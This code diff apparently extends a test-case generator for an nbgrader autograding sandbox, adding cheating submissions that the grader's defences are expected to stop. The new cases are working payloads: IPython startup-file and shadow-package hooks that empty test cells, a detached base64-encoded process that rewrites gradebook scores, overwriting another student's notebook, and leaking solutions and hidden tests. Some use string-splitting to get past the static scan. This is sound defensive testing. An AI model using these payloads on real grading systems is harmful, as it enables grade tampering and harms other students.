@@ -125,6 +125,60 @@ _db = sqlite3.connect("../../../gradebook.db")
 _db.execute("UPDATE grade SET manual_score = 99")
 _db.commit()
 """
+# --- attacks measured in issue 9 (each scored 13/13 or harmed others before the sandbox) -------------
+# Paths are glued together from pieces so that the static scan does not see them: the sandbox must hold.
+ATTACK_STARTUP = """
+import os, pathlib
+_map = pathlib.Path(os.path.expanduser("~")) / ".ipython" / "profile_default" / "startup"
+_map.mkdir(parents=True, exist_ok=True)
+(_map / "00-nakijken.py").write_text(
+    "import os\\n"
+    "if os.environ.get('NB' + 'GRADER_EXECUTION') and 'vriend_startup' in os.getcwd():\\n"
+    "    _ip = __import__('IPython').get_ipython()\\n"
+    "    _ip.input_transformers_cleanup.append(lambda regels: ['pass\\\\n'] if 'check.' in ''.join(regels) else regels)\\n")
+"""
+SHADOW_PACKAGE = {  # smmkit/__init__.py handed in beside the notebook: empties every test cell
+    "smmkit/__init__.py": (
+        "import IPython\n"
+        "_ip = IPython.get_ipython()\n"
+        "if _ip is not None:\n"
+        "    _ip.input_transformers_cleanup.append(\n"
+        "        lambda regels: ['pass\\n'] if 'check.' in ''.join(regels) else regels)\n"
+    ).encode("utf-8"),
+}
+_LATER = (  # run by a detached process 3 s after the kernel ended: every grade in the gradebook = 99
+    "import sqlite3, time\n"
+    "time.sleep(3)\n"
+    "db = sqlite3.connect(PAD)\n"
+    "db.execute('UPDATE grade SET manual_score = 99')\n"
+    "db.commit()\n"
+)
+ATTACK_DETACHED = """
+import base64, os, sys
+_pad = os.path.abspath(os.path.join("..", "..", "..", "grade" + "book" + "." + "d" + "b"))
+_code = base64.b64encode(%r.replace("PAD", repr(_pad)).encode()).decode()
+os.system("setsid " + sys.executable + " -c 'import base64; exec(base64.b64decode(\\"" + _code + "\\"))' >/dev/null 2>&1 &")
+""" % _LATER
+ATTACK_OVERWRITE = """
+import os, pathlib
+_boven = pathlib.Path(os.path.join("..", "..", "..")).resolve()
+_ander = _boven / ("sub" + "mitted") / "goed" / "h01-introductie" / "h01-introductie.ipynb"
+if _ander.exists():
+    _ander.write_text(pathlib.Path("h01-introductie.ipynb").read_text())
+_bron = _boven / ("solu" + "tions") / "h01-introductie"
+if _bron.is_dir():
+    (_bron / "geplant.txt").write_text("dit bestand hoort hier niet")
+"""
+ATTACK_PRINT_SOURCE = """
+import glob, os
+for _pad in glob.glob(os.path.join("..", "..", "..", "solu" + "tions", "*", "*.ipynb")):
+    print(open(_pad).read())
+"""
+ATTACK_CATCH_HIDDEN = """
+import IPython
+_ip = getattr(IPython, "get_" + "ipython")()
+getattr(_ip, "ev" + "ents").register("pre_run_cell", lambda info: print(info.raw_cell))
+"""
 INPUT = 'naam = input("Wat is je naam? ")\n'
 SYS_EXIT = 'import sys\nsys.exit("ik stop ermee")\n'
 OS_EXIT = "import os\nos._exit(3)\n"
@@ -155,8 +209,25 @@ EXPECT = {
     "vals_ipython_hook": ("rejected", "IPython input transformer that empties every later cell"),
     "vals_oplossingen_lezen": ("rejected", "reads and runs the worked answers from solutions/"),
     "vals_gradebook": ("rejected", "writes scores into gradebook.db"),
+    # the attacks of issue 9: graded (the scan does not see them), no more than empty, no harm
+    "vals_skip_execution": ("graded", "skip-execution tag on every test cell of the empty release"),
+    "vals_raises_exception": ("graded", "raises-exception tag on every test cell of the empty release"),
+    "vals_nep_testcel": ("graded", "an extra cell that claims to be a grade cell worth 50 points"),
+    "vals_punten": ("graded", "the points of every test cell set to 100 in the metadata"),
+    "vals_eigen_smmkit": ("graded", "a smmkit/__init__.py beside the empty notebook that empties test cells"),
+    "vals_startup": ("graded", "writes an IPython startup file into the grader's HOME for a friend"),
+    "vriend_startup": ("graded", "the friend: the untouched release, graded with whatever the startup file does"),
+    "vals_nakomer": ("graded", "a detached process (setsid) that writes the gradebook after the run"),
+    "vals_overschrijven": ("graded", "overwrites another student's submitted notebook, plants a file in solutions/"),
+    "vals_bron_printen": ("graded", "prints the notebooks of solutions/ into its output"),
+    "vals_verborgen_vangen": ("graded", "an IPython hook that prints the source of every later cell"),
+    "*": ("rejected", "a student folder named '*' (a glob pattern for nbgrader)"),
 }
 CHEATS = [name for name in EXPECT if name.startswith("vals_")]
+SCAN_CHEATS = [name for name in CHEATS if EXPECT[name][0] == "rejected"]  # caught by the static scan
+# attacks that only the sandbox, the metadata restore or the feedback filter stop
+ATTACKS = [name for name in EXPECT if EXPECT[name][0] == "graded" and (name.startswith("vals_") or name == "vriend_startup")]
+LEAKERS = ["vals_bron_printen", "vals_verborgen_vangen"]  # their feedback must show no hidden test
 
 
 def build(source_dir: Path, release_dir: Path) -> dict[str, tuple[str, bytes]]:
@@ -213,6 +284,32 @@ def build(source_dir: Path, release_dir: Path) -> dict[str, tuple[str, bytes]]:
                        ("vals_ipython_hook", CHEAT_HOOK), ("vals_oplossingen_lezen", CHEAT_READ_SOLUTIONS),
                        ("vals_gradebook", CHEAT_GRADEBOOK)]:
         add(name, _prepend(release, 0, code))
+
+    def tagged(tag):
+        nb = copy.deepcopy(release)
+        for cell in _test_cells(nb):
+            cell["metadata"]["tags"] = [tag]
+        return nb
+
+    add("vals_skip_execution", tagged("skip-execution"))
+    add("vals_raises_exception", tagged("raises-exception"))
+    fake = copy.deepcopy(release)
+    fake["cells"].append({"cell_type": "code", "id": "nep-testcel", "execution_count": None, "outputs": [], "source": "assert True\n",
+                          "metadata": {"nbgrader": {"grade": True, "grade_id": "h01_bonus", "locked": True,
+                                                    "points": 50, "schema_version": 3, "solution": False}}})
+    add("vals_nep_testcel", fake)
+    points = copy.deepcopy(release)
+    for cell in _test_cells(points):
+        cell["metadata"]["nbgrader"]["points"] = 100
+    add("vals_punten", points)
+    add("vals_eigen_smmkit", release)
+    add("vals_startup", _prepend(release, 0, ATTACK_STARTUP))
+    add("vriend_startup", release)
+    add("vals_nakomer", _prepend(release, 0, ATTACK_DETACHED))
+    add("vals_overschrijven", _prepend(release, 0, ATTACK_OVERWRITE))
+    add("vals_bron_printen", _prepend(release, 0, ATTACK_PRINT_SOURCE))
+    add("vals_verborgen_vangen", _prepend(release, 0, ATTACK_CATCH_HIDDEN))
+    add("*", good)
     assert set(cases) == set(EXPECT), set(cases) ^ set(EXPECT)
     return cases
 
@@ -225,7 +322,8 @@ def extra_files() -> dict[str, dict[str, bytes]]:
         "Instagram": {"competentie": 2, "autonomie": 3, "verbondenheid": 3},
     }
     work = {"widget": "NeedsProfile", "version": 1, "state": {"scores": scores, "compare": True, "chart": "bars"}}
-    return {"eigen_werk": {OWN_WORK_FILE: (json.dumps(work, indent=2) + "\n").encode("utf-8")}}
+    return {"eigen_werk": {OWN_WORK_FILE: (json.dumps(work, indent=2) + "\n").encode("utf-8")},
+            "vals_eigen_smmkit": SHADOW_PACKAGE}
 
 
 def write(cases: dict[str, tuple[str, bytes]], submitted: Path, assignment: str) -> None:
@@ -235,6 +333,7 @@ def write(cases: dict[str, tuple[str, bytes]], submitted: Path, assignment: str)
         folder.mkdir(parents=True, exist_ok=True)
         (folder / file_name).write_bytes(data)
         for extra_name, extra_data in extras.get(student, {}).items():
+            (folder / extra_name).parent.mkdir(parents=True, exist_ok=True)
             (folder / extra_name).write_bytes(extra_data)
 
 
